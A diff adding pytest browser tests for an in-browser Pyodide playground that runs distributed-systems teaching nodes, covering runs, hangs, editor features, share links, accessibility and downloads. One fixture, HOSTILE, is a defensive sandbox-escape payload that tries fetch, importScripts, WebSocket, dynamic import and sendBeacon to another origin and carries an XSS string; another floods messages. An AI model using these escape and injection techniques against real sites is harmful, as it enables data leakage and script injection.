@@ -1,0 +1,466 @@
+"""The site in a browser: nodes are edited, run, checked, explored and stopped where they stand."""
+
+import base64
+import json
+import threading
+import zlib
+from functools import partial
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from glomers.series.live_site import build_site
+from glomers.series.notebook import read_notebook
+from glomers.series.pyodide_package import PYODIDE
+from tests.helpers.axe import serious
+from tests.helpers.chromium import Chromium, find_chromium
+from tests.helpers.places import ROOT, SOLUTIONS
+from tests.helpers.webassembly import needed
+
+pytestmark = pytest.mark.slow
+
+LESSON = "03c-broadcast-faults"
+ONCE, RETRY = 0, 1  # the live cells of that lesson
+SITE_MB = 20
+RUNTIME_MB = 10
+CTRL = 2
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    needed("package pyodide (`make runtime` fetches it)", PYODIDE.is_there())
+    folder = tmp_path_factory.mktemp("site")
+    build_site(ROOT, folder)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with Chromium(needed("Chromium", find_chromium())) as browser:
+        yield browser
+
+
+class Requests(list):
+    """The requests that a server has had."""
+
+
+def _serve(handler):
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@pytest.fixture(scope="module")
+def server(site):
+    class Quiet(SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            pass
+
+    server = _serve(partial(Quiet, directory=str(site)))
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def elsewhere():
+    """Another origin, with the requests that it has had."""
+    seen = Requests()
+
+    class Heard(BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815
+
+        def log_message(self, *_):
+            pass
+
+    server = _serve(Heard)
+    seen.address = f"127.0.0.1:{server.server_port}"
+    yield seen
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module", params=["http", "file"])
+def at(request, site):
+    """The address of a page of the site, from a server and in a folder."""
+    if request.param == "file":
+        return lambda name: (site / name).as_uri()
+    address = request.getfixturevalue("server")
+    return lambda name: f"{address}/{name}"
+
+
+class Cell:
+    """A live cell, or the playground's panel."""
+
+    def __init__(self, visit, number=0):
+        self.visit = visit
+        self.place = f"document.querySelectorAll('.panel')[{number}]"
+
+    def press(self, name):
+        self.visit.run(f"{self._button(name)}.click()")
+
+    def _button(self, name):
+        return f"[...{self.place}.querySelectorAll('button')].find(b => b.textContent === '{name}')"
+
+    def is_able(self, name):
+        return self.visit.run(f"!{self._button(name)}.disabled")
+
+    def wait(self):
+        """Until what was begun has ended."""
+        self.visit.wait(f"{self._button('Stop')}.disabled")
+
+    def do(self, name):
+        self.press(name)
+        self.wait()
+        return self.result
+
+    @property
+    def result(self):
+        return self.visit.run(f"{self.place}.querySelector('.result').innerText")
+
+    @property
+    def status(self):
+        return self.visit.run(f"{self.place}.querySelector('.status').textContent")
+
+    @property
+    def text(self):
+        return self.visit.run(f"{self.place}.querySelector('textarea').value")
+
+    def write(self, text):
+        self.focus()
+        self.visit.run(f"{self.place}.querySelector('textarea').select()")
+        self.visit.type(text)
+
+    def focus(self):
+        self.visit.run(f"{self.place}.querySelector('textarea').focus()")
+
+
+def link(source, command="test -w echo --bin node.py --node-count 1 --time-limit 1", **others):
+    """The fragment of a link to the playground."""
+    content = {"files": {"node.py": source}, "command": command, "seed": 0}
+    content |= {"challenge": None, "check": None, **others}
+    packer = zlib.compressobj(wbits=-15)
+    packed = packer.compress(json.dumps(content).encode()) + packer.flush()
+    return "#n=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")
+
+
+ECHO = (SOLUTIONS / "echo.py").read_text(encoding="utf-8")
+
+
+def test_the_site_is_small_enough_and_says_what_it_is_made_of(site):
+    files = [path for path in site.iterdir() if path.is_file()]
+    runtime = [path for path in files if path.name.startswith("runtime-")]
+    assert len(runtime) == 1
+    assert runtime[0].stat().st_size <= RUNTIME_MB * 1e6
+    assert sum(path.stat().st_size for path in files) <= SITE_MB * 1e6
+    for notice in (
+        runtime[0].read_text(encoding="utf-8")[:2000],
+        (site / "NOTICE.txt").read_text(),
+    ):
+        assert "Mozilla Public License 2.0" in notice
+        assert PYODIDE.version in notice
+
+
+def test_a_run_gives_the_figures_of_the_page_and_nothing_else_is_asked_for(browser, at, site):
+    visit = browser.tab(at(f"{LESSON}.html"))
+    cell = Cell(visit, RETRY)
+    result = cell.do("Run")
+    notebook = read_notebook(ROOT / "notebooks" / f"{LESSON}.ipynb")
+    outputs = [output for each in notebook.code_cells for output in each.outputs]
+    texts = ["".join(each.get("data", {}).get("text/plain", "")) for each in outputs]
+    shown = next(text for text in texts if "broadcast_retry" in text and "per operation" in text)
+    for line in shown.splitlines()[3:]:
+        assert line in result
+    assert "✓ valid" in result
+    found = visit.findings()
+    assert found.errors == []
+    assert found.missing_images == []
+    runtime = next(site.glob("runtime-*.js")).name
+    names = ["code.js", "results.js", "live.js", "playground.js", runtime]
+    assert found.requests == [at(name) for name in names]
+    visit.close()
+
+
+def test_after_the_first_run_no_network_is_needed(browser, server):
+    visit = browser.tab(f"{server}/{LESSON}.html")
+    cell = Cell(visit, ONCE)
+    assert "✗ invalid" in cell.do("Run")
+    slow = {"latency": 0, "downloadThroughput": 0, "uploadThroughput": 0}
+    visit.call("Network.emulateNetworkConditions", offline=True, **slow)
+    cell.write((SOLUTIONS / "broadcast_retry.py").read_text(encoding="utf-8"))
+    assert "✓ valid" in cell.do("Run")
+    cell.press("Reset")
+    visit.close()
+
+
+def test_a_node_that_hangs_ends_by_itself_and_one_that_cannot_be_ended_is_stopped(browser, at):
+    visit = browser.tab(at("01-exercise.html"))
+    cell = Cell(visit)
+    loop = ECHO.replace("    return", "    while True:\n        pass\n    return")
+    cell.write(loop)
+    assert "hangs" in cell.do("Run")
+    assert "Does a loop never await?" in cell.result
+    marked = visit.run("document.querySelector('.editor .bad').textContent")
+    assert loop.splitlines()[int(marked) - 1].strip() in ("while True:", "pass")
+    cell.write(ECHO.replace("    return", "    sum(iter(int, 1))\n    return"))
+    cell.press("Run")
+    visit.wait("document.querySelector('.status').textContent === 'Running …'")
+    assert cell.is_able("Stop")
+    cell.do("Stop")
+    assert "Stopped after" in cell.status
+    cell.write(ECHO)
+    assert "✓ valid" in cell.do("Run")
+    cell.press("Reset")
+    visit.close()
+
+
+def test_an_error_is_marked_at_its_line_and_the_mark_goes_with_the_next_change(browser, server):
+    visit = browser.tab(f"{server}/01-exercise.html")
+    cell = Cell(visit)
+    cell.write("from glomers.node import Node\n\nnode = (\n")
+    assert "was never closed" in cell.do("Run")
+    assert visit.run("document.querySelector('.editor .bad').textContent") == "3"
+    visit.run("document.querySelector('.result .place').click()")
+    assert visit.run("document.activeElement.selectionStart") == 31
+    visit.type("x")
+    assert visit.run("document.querySelector('.editor .bad')") is None
+    cell.press("Reset")
+    visit.close()
+
+
+def test_a_draft_is_kept_and_reset_brings_the_node_back(browser, at):
+    visit = browser.tab(at("02-exercise.html"))
+    cell = Cell(visit)
+    original = cell.text
+    assert original.startswith("import")
+    cell.write("# mine\n")
+    visit.close()
+    visit = browser.tab(at("02-exercise.html"))
+    cell = Cell(visit)
+    assert cell.text == "# mine\n"
+    assert "Reset brings back" in cell.status
+    cell.press("Reset")
+    assert cell.text == original
+    visit.close()
+    visit = browser.tab(at("02-exercise.html"))
+    assert Cell(visit).text == original
+    visit.close()
+
+
+def test_the_editor_indents_undoes_and_lets_go(browser, server):
+    visit = browser.tab(f"{server}/01-exercise.html")
+    cell = Cell(visit)
+    cell.write("def f():")
+    visit.press("Enter")
+    visit.type("return 1")
+    assert cell.text == "def f():\n    return 1"
+    visit.press("[", CTRL)
+    assert cell.text == "def f():\nreturn 1"
+    visit.press("]", CTRL)
+    assert cell.text == "def f():\n    return 1"
+    visit.run("document.execCommand('undo')")
+    assert cell.text == "def f():\nreturn 1"
+    visit.press("Tab")
+    assert visit.run("document.activeElement.tagName") != "TEXTAREA"
+    cell.press("Reset")
+    visit.close()
+
+
+def test_an_exercise_is_checked_stage_by_stage(browser, at):
+    visit = browser.tab(at("01-exercise.html"))
+    cell = Cell(visit)
+    cell.press("Reset")
+    assert "✗" in cell.do("Check")
+    marked = visit.run("document.querySelector('.editor .bad').textContent")
+    assert "NotImplementedError" in cell.text.splitlines()[int(marked) - 1]
+    cell.write(ECHO)
+    assert "✗" not in cell.do("Check")
+    assert "✓ one node is right" in cell.result
+    assert "How much that proves" in cell.result
+    cell.press("Reset")
+    visit.close()
+
+
+def test_an_exploration_finds_the_smallest_failure(browser, server):
+    visit = browser.tab(f"{server}/{LESSON}.html")
+    cell = Cell(visit, ONCE)
+    result = cell.do("Explore")
+    assert "of 30 seeds fail: lost" in result
+    assert "The smallest failure that was found" in result
+    image = f"{cell.place}.querySelector('.result img')"
+    assert visit.run(f"{image}.naturalWidth") > 100
+    assert visit.run(f"{image}.alt").startswith("Space-time diagram: n")
+    visit.close()
+
+
+def test_the_playground_runs_what_its_menu_offers_and_gives_a_link_to_it(browser, at):
+    visit = browser.tab(at("playground.html"))
+    names = visit.run("[...document.querySelectorAll('option')].map(o => o.textContent)")
+    assert any("broadcast_retry" in name for name in names)
+    assert len([name for name in names if "ten attempts" in name]) == 1
+    groups = visit.run("[...document.querySelectorAll('optgroup')].map(o => o.label)")
+    assert groups == ["Nodes of the series", "Find the bug", "Known to be wrong"]
+    cell = Cell(visit)
+    assert "✓ valid" in cell.do("Run")
+    cell.press("Copy a link")
+    visit.wait("location.hash.startsWith('#n=')")
+    address = visit.run("location.href")
+    visit.close()
+    visit = browser.tab(address)
+    visit.wait("!document.querySelector('.note').hidden")
+    assert "Nothing has run" in visit.run("document.querySelector('.note').textContent")
+    assert Cell(visit).text == ECHO
+    visit.close()
+
+
+@pytest.mark.parametrize(
+    "fragment",
+    ["#n=AAAA", "#n=%00", "#n=" + "A" * 300_000, link("x", seed="1"), link("x", files={})],
+)
+def test_a_link_without_a_node_is_refused_in_a_sentence(browser, server, fragment):
+    visit = browser.tab(f"{server}/playground.html{fragment}")
+    visit.wait("!document.querySelector('#playground .note').hidden")
+    said = visit.run("document.querySelector('#playground .note').textContent")
+    assert "holds no node that can be read" in said
+    assert visit.findings().errors == []
+    visit.close()
+
+
+HOSTILE = """
+import js
+from glomers.node import Node
+
+node = Node()
+ADDRESS = "{address}"
+js.postMessage("a word out of turn")
+
+
+@node.on("echo")
+def echo(message):
+    for way in (
+        lambda: js.fetch("http://" + ADDRESS + "/fetch"),
+        lambda: js.Function.new("return fetch('http://" + ADDRESS + "/function')")(),
+        lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, "http://" + ADDRESS + "/proto"),
+        lambda: js.WorkerGlobalScope.prototype.importScripts.call(
+            js.self, "http://" + ADDRESS + "/script"
+        ),
+        lambda: js.WebSocket.new("ws://" + ADDRESS + "/socket"),
+        lambda: js.eval("import('http://" + ADDRESS + "/module')"),
+        lambda: js.navigator.sendBeacon("http://" + ADDRESS + "/beacon"),
+        lambda: js.document,
+    ):
+        try:
+            way()
+        except BaseException:
+            pass
+    raise ValueError("<img src=x onerror=document.title='owned'><script>x</script>")
+
+
+node.run()
+"""
+
+
+def test_a_hostile_link_runs_nothing_by_itself_and_reaches_nothing_when_run(
+    browser, server, elsewhere
+):
+    source = HOSTILE.replace("{address}", elsewhere.address)
+    visit = browser.tab(f"{server}/playground.html{link(source)}")
+    visit.wait("!document.querySelector('.note').hidden")
+    title = visit.run("document.title")
+    before = visit.findings().requests
+    assert not [each for each in before if "runtime" in each]
+    cell = Cell(visit)
+    cell.do("Run")
+    visit.run("new Promise(done => setTimeout(done, 500))")
+    assert list(elsewhere) == []
+    assert [each for each in visit.findings().requests if not each.startswith(server)] == []
+    assert visit.run("document.title") == title
+    assert visit.run("document.querySelector('.result img[src=x], .result script')") is None
+    visit.close()
+
+
+FLOODS = ECHO.replace(
+    "    return",
+    "    for number in range(10**9):\n        node.send('n0', {'type': 'more'})\n    return",
+)
+
+
+def test_a_node_that_floods_leaves_the_page_alive_and_is_stopped(browser, server):
+    visit = browser.tab(f"{server}/playground.html{link(FLOODS)}")
+    visit.wait("!document.querySelector('.note').hidden")
+    cell = Cell(visit)
+    cell.press("Run")
+    visit.wait("document.querySelector('.status').textContent === 'Running …'")
+    if cell.is_able("Stop"):  # the bench may have been quicker
+        cell.do("Stop")
+    assert "Stopped after" in cell.status or "broken" in cell.status
+    cell.write(ECHO)
+    assert "✓ valid" in cell.do("Run")
+    visit.close()
+
+
+@pytest.mark.parametrize(
+    "name", [f"{LESSON}.html", "01-exercise.html", "playground.html", "index.html"]
+)
+def test_pages_can_be_used_by_everybody(browser, server, name):
+    visit = browser.tab(f"{server}/{name}", width=360)
+    if name != "index.html":
+        Cell(visit).do("Run")
+    for width in (360, 1200):
+        for scheme in ("light", "dark"):
+            visit.look(width, 900, scheme)
+            assert serious(visit) == [], (width, scheme)
+            assert visit.run("document.documentElement.scrollWidth") <= width
+    visit.close()
+
+
+def test_without_scripts_a_page_is_what_the_export_makes_of_it(browser, server):
+    off = "Object.defineProperty(self, 'WebAssembly', {value: undefined}); delete self.WebAssembly;"
+    visit = browser.tab(f"{server}/{LESSON}.html", before=off)
+    assert visit.run("document.querySelectorAll('.panel').length") == 0
+    assert "%%writefile nodes/broadcast_once.py" in visit.run("document.body.innerText")
+    visit.close()
+
+
+KEEPS = """
+self.kept = [];
+const make = URL.createObjectURL.bind(URL);
+URL.createObjectURL = (blob) => { self.kept.push(blob); return make(blob); };
+"""
+WITH_HELPER = ECHO.replace("\nnode = ", "\nfrom helper import shout\n\nnode = ")
+
+
+def test_what_is_made_can_be_taken_home(browser, server):
+    visit = browser.tab(f"{server}/playground.html{link(ECHO)}", before=KEEPS)
+    visit.wait("!document.querySelector('.note').hidden")
+    cell = Cell(visit)
+    cell.press("Download")
+    text = visit.run("self.kept.at(-1).text()")
+    assert text == f"#!/usr/bin/env python3\n{ECHO}"
+    cell.do("Run")
+    cell.press("Download the store")
+    visit.wait("self.kept.at(-1).type === 'application/zip'")
+    begin = visit.run("self.kept.at(-1).slice(0, 2).text()")
+    assert begin == "PK"
+    visit.close()
+
+
+def test_a_node_of_one_s_own_has_files_beside_it_and_arguments(browser, server):
+    source = WITH_HELPER.replace("shout", "shout as _")
+    visit = browser.tab(f"{server}/playground.html{link(source)}")
+    visit.wait("!document.querySelector('.note').hidden")
+    cell = Cell(visit)
+    assert "No module named 'helper'" in cell.do("Run")
+    cell.press("Add a file")
+    visit.run("document.querySelector('.other textarea').focus()")
+    visit.type("import sys\n\nassert sys.argv[1] == 'loud'\nshout = str.upper\n")
+    line = "-w echo --node-count 1 --time-limit 1 -- loud"
+    visit.run(f"document.querySelectorAll('.fields input')[0].value = '{line}'")
+    assert "✓ valid" in cell.do("Run")
+    visit.close()
